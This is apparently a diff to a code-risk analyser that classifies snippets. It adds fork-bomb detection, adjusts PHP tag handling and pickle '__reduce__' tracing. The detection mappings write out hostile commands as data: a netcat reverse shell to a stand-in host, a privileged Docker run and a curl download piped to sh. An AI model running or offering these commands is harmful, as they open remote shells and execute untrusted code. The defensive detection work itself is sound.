@@ -9,6 +9,7 @@ import { getLanguage } from './languages/get_language.js';
 import { readAwk } from './languages/read_awk.js';
 import { readSql } from './languages/read_sql.js';
 import { isToken } from './lexer/code_token.js';
+import { isForkBomb } from './lexer/is_fork_bomb.js';
 import { MAX_TOKENS, tokenize } from './lexer/tokenize.js';
 import { bindCodeInput } from './model/code_input.js';
 import { CodeScope, create, get } from './model/code_value.js';
@@ -31,7 +32,9 @@ export function readCode(language: Exclude<CodeLanguage, 'shell'>, code: string,
   const collector = new InvocationCollector(language, context, code.slice(0, MAX_CODE));
   const plain =
     language === 'php'
-      ? code.replace(/(?<=^\s*|^#!.*\n\s*|\?>\s*)<\?(?:php\b|=)/g, ';').replace(/(?<=\w)\\(?=[A-Z])/g, '::')
+      ? code
+          .replace(/(?:^|\?>)\s{0,99}(?:#!.{0,200}\n)?\s{0,9}<\?(?:php\b|=)/g, ';')
+          .replace(/(?<=\w)\\(?=[A-Z])/g, '::')
       : code;
   if (code.length > MAX_CODE) collector.fail('too-long', `the ${language} code is longer than ${MAX_CODE} characters`);
   else if (language === 'sql') readSql(code, collector);
@@ -49,12 +52,10 @@ function interpretCode(language: LanguageSpec, code: string, collector: Invocati
     collector.fail('too-much', `the code has more than ${MAX_TOKENS} words`);
     return;
   }
-  if (collector.signs.has('respawns')) collector.addInvocation('fork-bomb', []);
+  if (isForkBomb(tokens) || collector.signs.has('respawns')) collector.addInvocation('fork-bomb', []);
   if (collector.signs.has('remote-shell')) collector.addInvocation('sh', [], collector.createInput(create.received()));
   if (collector.signs.has('web-shell')) collector.addInvocation('nc', ['-e', '/bin/sh', 'shell.example.net', '443']);
   if (collector.signs.has('privileged-container')) collector.addInvocation('docker', ['run', '--privileged', 'image']);
-  if (collector.signs.has('deletes-at-service')) collector.addInvocation('cloud-sdk', ['delete']);
-  if (collector.signs.has('sends-to-all')) collector.addInvocation('send-to-all', []);
   const download = collector.createInvocation('curl', ['https://example.com']);
   if (collector.signs.has('remote-code'))
     collector.addInvocation('sh', [], collector.createInput(create.content([download])));
@@ -88,7 +89,7 @@ function interpretCode(language: LanguageSpec, code: string, collector: Invocati
     const callee = { kind: 'function' as const, definition };
     const value = !isCalled && (isMentioned || isHandler) ? state.call(callee) : undefined;
     // Unpickling calls what this method returns.
-    if (name === '__reduce__' && !collector.signs.has('shows-pickle') && value?.kind === 'list' && value.items[1])
+    if (name === '__reduce__' && value?.kind === 'list' && value.items[1])
       state.call(value.items[0]!, ...get.elements(value.items[1]));
   }
 }
